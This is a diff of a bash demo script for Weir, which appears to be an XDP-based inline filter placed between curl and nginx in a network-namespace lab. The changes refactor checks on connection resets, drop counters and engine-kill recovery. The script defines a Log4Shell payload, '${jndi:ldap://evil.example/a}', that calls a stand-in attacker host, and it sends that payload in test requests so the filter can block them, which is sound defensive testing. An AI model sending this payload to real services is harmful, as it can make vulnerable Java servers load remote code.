@@ -8,20 +8,19 @@ card=4111111111111111 other_card=5555555555554444 no_card=4111111111111112
 attack='${jndi:ldap://evil.example/a}'
 # Bytes of a TCP segment that IPv4, its timestamps and an MTU of 1500 leave for data.
 segment_bytes=1448
-download_pid=''
 
 demo_inline() {
     lab_up "weir-demo-$$"
     lab_mount_bpffs
     site_up "$dir/site"
-    engine_write_config "$dir/demo.toml" "$dir/eve.json"
+    engine_write_config "$dir/weir.toml" "$dir/eve.json"
     make_pages
     section "Without Weir: a bridge between curl and nginx"
     without_weir
     section "With Weir between them"
     if ! start_engine "$dir/engine.log"; then
         [[ $engine_exit -eq 77 ]] || { cat "$dir/engine.log"; exit 1; }
-        warn "$(tail -n1 "$dir/engine.log")"
+        not_inline "$(tail -n1 "$dir/engine.log")"
         return
     fi
     section "What means no harm passes, byte for byte"
@@ -80,7 +79,7 @@ without_weir() {
 }
 
 start_engine() {
-    engine_up "$dir/demo.toml" "$1" || return
+    engine_up "$dir/weir.toml" "$1" || return
     ok "weir run is ready, with a pinned program on both ports"
     check "the program is attached" lab_has_xdp
     check "checksum offload is on at both ends: Weir completes what the kernel leaves partial" offload_is_on
@@ -128,8 +127,9 @@ is_reset() {
     local where=$1
     shift
     fetch "$dir/got" "$@"
-    check_equal "Log4Shell $where: connection reset by peer" "$curl_exit" 56
-    check "the client knew after $curl_seconds s" awk -v took="$curl_seconds" 'BEGIN { exit !(took < 2) }'
+    check_equal "Log4Shell $where: connection reset by peer, after $curl_seconds s" "$curl_exit" 56
+    # A client that is left waiting notices after minutes.
+    awk -v took="$curl_seconds" 'BEGIN { exit took >= 2 }' || fail "that is not at once"
 }
 
 leak() {
@@ -165,26 +165,25 @@ counters() {
         ([.dropped | to_entries[] | select(.value > 0) | " + \(.key) \(.value)"] | add // "") +
         "   (and \(.injected) resets injected)"' <<<"$stats"
     check "frames in = frames forwarded + drops by reason" \
-        jq -e '.frames_in > 0 and .frames_in == .forwarded + (.dropped | add)' <<<"$stats" >"$dir/jq"
-    check "the drops have the rules as their reason" jq -e '.dropped.rule >= 4' <<<"$stats" >"$dir/jq"
-    check "resets were injected" jq -e '.injected >= 8' <<<"$stats" >"$dir/jq"
+        holds '.frames_in > 0 and .frames_in == .forwarded + (.dropped | add)' "$stats"
+    check "the drops have the rules as their reason" holds '.dropped.rule >= 4' "$stats"
+    check "resets were injected" holds '.injected >= 8' "$stats"
 }
 
 # With on_engine_loss = "forward" the bridge takes over, unchecked, until an engine is back.
 kill_test() {
     local sent
     sent=$(sha256 "$dir/site/pages/download.bin")
-    engine_up "$dir/demo.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
+    engine_up "$dir/weir.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
     download_start
     engine_end KILL
     check_equal "SIGKILL ended the engine, with the download at $(stat -c %s "$dir/download") bytes" "$engine_exit" 137
     fetch "$dir/got" "http://$server_v4/?unchecked=$attack"
     check "on_engine_loss = \"forward\": the bridge passes all there is, unchecked" site_logged '?unchecked'
     check "the download completes" wait "$download_pid"
-    download_pid=
     check_equal "its sha256 is ${sent:0:12}…" "$(sha256 "$dir/download")" "$sent"
     check "the program is still attached" lab_has_xdp
-    engine_up "$dir/demo.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
+    engine_up "$dir/weir.toml" "$dir/engine.log" || { cat "$dir/engine.log"; exit 1; }
     ok "a new engine took the pinned program over"
     is_reset "after the restart" "http://$server_v4/?restarted=$attack"
     fetch "$dir/got" "http://$server_v4/?again"
@@ -197,17 +196,11 @@ download_start() {
     nsenter --net="$(lab_netns client)" curl -qs --noproxy '*' --max-time 60 --limit-rate 12M \
         -o "$dir/download" "http://$server_v4/download.bin" &
     download_pid=$!
+    lab_children+=("$download_pid")
     local _
     for _ in {1..100}; do
         [[ $(stat -c %s "$dir/download" 2>/dev/null || echo 0) -lt 5000000 ]] || return 0
         sleep 0.1
     done
     fail "the download did not get under way"
-}
-
-download_end() {
-    [[ -n $download_pid ]] || return 0
-    kill "$download_pid" 2>/dev/null || true
-    wait "$download_pid" 2>/dev/null || true
-    download_pid=
 }
